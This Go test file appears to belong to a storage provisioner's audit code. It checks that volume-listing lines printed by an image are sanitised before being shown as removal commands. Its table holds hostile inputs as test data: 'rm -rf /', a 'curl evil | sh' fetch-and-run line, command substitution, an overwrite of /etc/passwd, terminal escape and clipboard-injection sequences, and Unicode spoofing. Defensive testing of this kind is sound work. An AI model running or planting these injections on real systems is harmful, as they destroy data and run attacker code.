package audit

import (
	"strings"
	"testing"

	"github.com/flex-provisioner/flex-provisioner/sdk/contract"
)

// What an image prints reaches a person's terminal, and from there perhaps a shell.
func TestHostileListing(t *testing.T) {
	const (
		itself  = "# by the means of the storage itself"
		unnamed = itself + ": its name is no volume's, and what the image says of removing it is not shown"
		unshown = itself + ": what the image says of removing it is not shown, since a shell could do more with it"
	)
	for _, c := range []struct{ line, name, command string }{
		{"pvc-x rm -rf -- /srv/pvc-x", "pvc-x", "# the image says: rm -rf -- /srv/pvc-x"},
		{"pvc-x openstack volume set --state available 1 && openstack volume delete 1", "pvc-x", "# the image says: openstack volume set --state available 1 && openstack volume delete 1"},
		{"pvc-x rbd rm pool/pvc-x@snap=1", "pvc-x", "# the image says: rbd rm pool/pvc-x@snap=1"},
		{"pvc-x", "pvc-x", itself},

		{"pvc-x; rm -rf /", `"pvc-x;"`, unnamed},
		{"$(reboot)", `"$(reboot)"`, itself},
		{"PVC-X", `"PVC-X"`, itself},
		{"pvc-\x1b[2Jx rm x", `"pvc-\x1b[2Jx"`, unnamed},
		{"pvc-x\rnothing", `"pvc-x\rnothing"`, itself},
		{"pvc-\u202ex", `"pvc-\u202ex"`, itself},
		{"pvc-\u0445", `"pvc-\u0445"`, itself}, // a Cyrillic x
		{"pvc-\xff", `"pvc-\xff"`, itself},
		{strings.Repeat("x", 300), `"` + strings.Repeat("x", 250) + `..."`, itself},

		{"pvc-x rm x; curl evil | sh", "pvc-x", unshown},
		{"pvc-x rm x | sh", "pvc-x", unshown},
		{"pvc-x rm x & reboot", "pvc-x", unshown},
		{"pvc-x rm x || reboot", "pvc-x", unshown},
		{"pvc-x rm $(reboot)", "pvc-x", unshown},
		{"pvc-x rm `reboot`", "pvc-x", unshown},
		{"pvc-x rm x > /etc/passwd", "pvc-x", unshown},
		{"pvc-x rm 'x'", "pvc-x", unshown},
		{"pvc-x rm /srv/*", "pvc-x", unshown},
		{"pvc-x rm ~/x", "pvc-x", unshown},
		{"pvc-x rm x\rrm -rf /", "pvc-x", unshown},
		{"pvc-x rm x\x1b]52;c;cm0gLXJmIC8K\x07", "pvc-x", unshown},
		{"pvc-x rm x\u202ehs.x", "pvc-x", unshown},
		{"pvc-x rm\u00a0x", "pvc-x", unshown},
		{"pvc-x rm x\tand y", "pvc-x", unshown},
		{"pvc-x && reboot", "pvc-x", unshown},
		{"pvc-x rm " + strings.Repeat("x", contract.MaxMessage), "pvc-x", unshown},
	} {
		t.Run(c.line, func(t *testing.T) {
			found := Compare(
				State{Now: noon, Provisioner: "p", Listings: []Listing{listing(contract.ListPrefix + c.line)}},
			)
			if len(found) != 1 || found[0].Name != c.name || found[0].Command != c.command {
				t.Errorf("found %+v, want %s: %s", found, c.name, c.command)
			}
		})
	}
}
